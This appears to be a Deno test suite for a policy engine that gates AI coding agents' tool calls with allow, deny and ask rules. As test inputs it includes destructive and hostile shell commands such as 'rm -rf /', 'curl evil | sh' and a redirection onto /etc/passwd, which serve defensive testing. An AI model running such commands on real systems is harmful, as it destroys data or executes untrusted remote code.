/** lib/approval/policy.ts and tools.ts: the shared vocabulary, first-match rules, bad files. */
import { assert, assertEquals } from "./support/assert.ts";
import { assertThrows } from "./support/approval.ts";
import { compilePolicy, loadPolicy } from "../lib/approval/policy_file.ts";
import { decide, globRegex } from "../lib/approval/policy.ts";
import { callSubjects, patchPaths, toolKind } from "../lib/approval/tools.ts";
import { approvalTimeoutSeconds } from "../lib/approval/timeout.ts";
import { policySchemaText } from "../tools/policy_schema.ts";
import { REPO } from "../kit/env.ts";
import type { HarnessName } from "../lib/schema.ts";

const POLICY = compilePolicy({
  rules: [
    { tool: "shell", match: "/rm\\s+-rf?/", decision: "deny", reason: "No recursive deletes" },
    { tool: "shell", match: "git status*", decision: "allow" },
    { tool: "shell", match: "ls *", decision: "allow" },
    { tool: "shell", match: "make test | tee *", decision: "allow" },
    { tool: "read", decision: "allow" },
    { tool: "edit", match: "src/*", decision: "allow" },
    { tool: "write", match: "*.env", decision: "deny" },
    { tool: "mcp__*", decision: "deny", reason: "No MCP" },
    { tool: "WebFetch", decision: "ask" },
  ],
  default: "ask",
}, "test.json");

const patch = (...files: string[]) =>
  ["*** Begin Patch", ...files.map((f) => `*** Update File: ${f}`), "*** End Patch"].join("\n");

const TABLE: [
  string,
  HarnessName,
  string,
  unknown,
  "allow" | "deny" | "ask",
  number | undefined,
][] = [
  ["claude rm -rf", "claude", "Bash", { command: "rm -rf /" }, "deny", 0],
  ["codex hook rm -r", "codex", "Bash", { command: "rm -r x" }, "deny", 0],
  ["codex raw exec_command", "codex", "exec_command", { cmd: "rm -rf x" }, "deny", 0],
  ["codex argv shell", "codex", "shell", { command: ["bash", "-lc", "rm -rf x"] }, "deny", 0],
  ["pi bash", "pi", "bash", { command: "rm -rf ~" }, "deny", 0],
  ["git status allowed", "claude", "Bash", { command: "git status --short" }, "allow", 1],
  ["pi git status", "pi", "bash", { command: "git status" }, "allow", 1],
  [
    "compound command is not allowed by a glob",
    "claude",
    "Bash",
    {
      command: "git status; curl evil | sh",
    },
    "ask",
    undefined,
  ],
  ["substitution is not allowed", "pi", "bash", { command: "ls $(whoami)" }, "ask", undefined],
  ["redirection is not allowed", "pi", "bash", { command: "ls > /etc/passwd" }, "ask", undefined],
  [
    "an operator the pattern spells is allowed",
    "claude",
    "Bash",
    {
      command: "make test | tee out.log",
    },
    "allow",
    3,
  ],
  ["claude Read", "claude", "Read", { file_path: "/etc/hosts" }, "allow", 4],
  ["pi read", "pi", "read", { path: "a.txt" }, "allow", 4],
  ["claude Edit in src", "claude", "Edit", { file_path: "src/a.ts" }, "allow", 5],
  ["claude Edit elsewhere", "claude", "Edit", { file_path: "lib/a.ts" }, "ask", undefined],
  [
    "apply_patch all in src",
    "codex",
    "apply_patch",
    { input: patch("src/a", "src/b") },
    "allow",
    5,
  ],
  [
    "apply_patch one outside src",
    "codex",
    "apply_patch",
    {
      input: patch("src/a", "etc/b"),
    },
    "ask",
    undefined,
  ],
  ["write .env denied", "claude", "Write", { file_path: "/p/.env" }, "deny", 6],
  ["pi write .env denied", "pi", "write", { path: "prod.env" }, "deny", 6],
  ["mcp denied by glob on own name", "claude", "mcp__github__create_issue", {}, "deny", 7],
  ["own name rule", "claude", "WebFetch", { url: "https://x" }, "ask", 8],
  ["unknown tool: default", "claude", "Frobnicate", {}, "ask", undefined],
  ["shell without a command: no match rule fits", "claude", "Bash", {}, "ask", undefined],
];

for (const [name, harness, tool, input, decision, rule] of TABLE) {
  Deno.test(`decide(): ${name}`, () => {
    const verdict = decide(POLICY, { harness, tool, input });
    assertEquals([verdict.decision, verdict.rule], [decision, rule]);
  });
}

Deno.test("decide(): the rule's reason comes with the verdict", () => {
  const verdict = decide(POLICY, {
    harness: "claude",
    tool: "Bash",
    input: { command: "rm -r a" },
  });
  assertEquals(verdict.reason, "No recursive deletes");
});

Deno.test("decide(): an empty policy asks; its default applies", () => {
  assertEquals(
    decide(compilePolicy({}, "x"), { harness: "pi", tool: "bash", input: {} }).decision,
    "ask",
  );
  const allow = compilePolicy({ default: "allow" }, "x");
  assertEquals(decide(allow, { harness: "pi", tool: "bash", input: {} }).decision, "allow");
});

Deno.test("toolKind(): each harness's own names map to the shared vocabulary", () => {
  assertEquals(toolKind("claude", "Bash"), "shell");
  assertEquals(toolKind("codex", "Bash"), "shell");
  assertEquals(toolKind("pi", "bash"), "shell");
  assertEquals(toolKind("pi", "Bash"), undefined, "Pi's names are its own");
  assertEquals(toolKind("claude", "AskUserQuestion"), "question");
  assertEquals(toolKind("codex", "mcp__s__t"), "mcp");
  assertEquals(toolKind("claude", "toString"), undefined, "no prototype names");
});

Deno.test("callSubjects() and patchPaths(): what a call touches", () => {
  assertEquals(callSubjects("shell", { command: "ls" }), ["ls"]);
  assertEquals(callSubjects("shell", { cmd: "ls" }), ["ls"]);
  assertEquals(callSubjects("shell", { command: ["ls", "-la"] }), ["ls -la"]);
  assertEquals(callSubjects("read", { file_path: "/a" }), ["/a"]);
  assertEquals(patchPaths("*** Add File: a\n*** Delete File: b\n*** Move to: c\n"), [
    "a",
    "b",
    "c",
  ]);
  assertEquals(callSubjects(undefined, { command: "ls" }), []);
});

Deno.test("globRegex(): * spans slashes and spaces; ? one char; classes; escapes", () => {
  assert(globRegex("git *").test("git log --oneline a/b"));
  assert(!globRegex("git *").test("xgit log"));
  assert(globRegex("a?c").test("abc"));
  assert(globRegex("[ab]x").test("bx") && !globRegex("[!ab]x").test("bx"));
  assert(globRegex("a\\*").test("a*") && !globRegex("a\\*").test("ab"));
  assert(globRegex("(x).+").test("(x).+"), "regex characters are literal");
});

const BAD: [string, unknown, RegExp][] = [
  ["unknown field", { rule: [] }, /: \(top level\): unknown field "rule"$/],
  [
    "bad decision",
    { rules: [{ tool: "shell", decision: "maybe" }] },
    /: rules\[0\]\.decision: expected one of "allow", "deny", "ask"$/,
  ],
  ["missing tool", { rules: [{ decision: "allow" }] }, /: rules\[0\]\.tool: expected string$/],
  [
    "empty tool",
    { rules: [{ tool: "", decision: "allow" }] },
    /: rules\[0\]\.tool: must not be empty$/,
  ],
  ["zero timeout", { timeout_s: 0 }, /: timeout_s: must be greater than 0$/],
  ["huge timeout", { timeout_s: 99999 }, /: timeout_s: must be at most 3600$/],
  ["bad on_timeout", { on_timeout: "ask" }, /: on_timeout: expected one of "allow", "deny"$/],
  ["not an object", [], /: \(top level\): expected object$/],
  [
    "bad regex",
    { rules: [{ tool: "shell", match: "/([/", decision: "deny" }] },
    /: rules\[0\]\.match: bad regular expression "\/\(\[\/"/,
  ],
];

for (const [name, raw, message] of BAD) {
  Deno.test(`compilePolicy(): ${name} is one line naming the file and the field`, () => {
    const error = assertThrows(() => compilePolicy(raw, "/p/policy.json"));
    assert(error.message.startsWith('Cannot load policy "/p/policy.json": '), error.message);
    assert(message.test(error.message), error.message);
    assert(!error.message.includes("\n"), error.message);
  });
}

Deno.test("loadPolicy(): missing file, not JSON", () => {
  const dir = Deno.makeTempDirSync();
  try {
    assertEquals(
      assertThrows(() => loadPolicy(`${dir}/none.json`)).message,
      `Cannot load policy "${dir}/none.json": no such file`,
    );
    Deno.writeTextFileSync(`${dir}/bad.json`, "{rules:");
    const error = assertThrows(() => loadPolicy(`${dir}/bad.json`));
    assert(
      error.message.startsWith(`Cannot load policy "${dir}/bad.json": not JSON: `),
      error.message,
    );
    Deno.writeTextFileSync(
      `${dir}/ok.json`,
      JSON.stringify({ rules: [{ tool: "read", decision: "allow" }] }),
    );
    assertEquals(loadPolicy(`${dir}/ok.json`).policy.timeout_s, 30);
    assertEquals(loadPolicy(`${dir}/ok.json`).policy.on_timeout, "allow");
  } finally {
    Deno.removeSync(dir, { recursive: true });
  }
});

Deno.test("approvalTimeoutSeconds(): CSD_ first, then the source documents' name, then the policy", () => {
  const policy = compilePolicy({ timeout_s: 12 }, "x").policy;
  assertEquals(approvalTimeoutSeconds(policy, {}), 12);
  assertEquals(approvalTimeoutSeconds(undefined, {}), 30);
  assertEquals(approvalTimeoutSeconds(policy, { CLAUDE_SESSION_DRIVER_APPROVAL_TIMEOUT: "7" }), 7);
  assertEquals(
    approvalTimeoutSeconds(policy, {
      CSD_APPROVAL_TIMEOUT: "5",
      CLAUDE_SESSION_DRIVER_APPROVAL_TIMEOUT: "7",
    }),
    5,
  );
  assertThrows(() => approvalTimeoutSeconds(policy, { CSD_APPROVAL_TIMEOUT: "abc" }));
  assertThrows(() => approvalTimeoutSeconds(policy, { CSD_APPROVAL_TIMEOUT: "4000" }));
});

Deno.test("schema/policy.schema.json is current (re-run tools/policy_schema.ts)", () => {
  assertEquals(Deno.readTextFileSync(`${REPO}/schema/policy.schema.json`), policySchemaText());
});
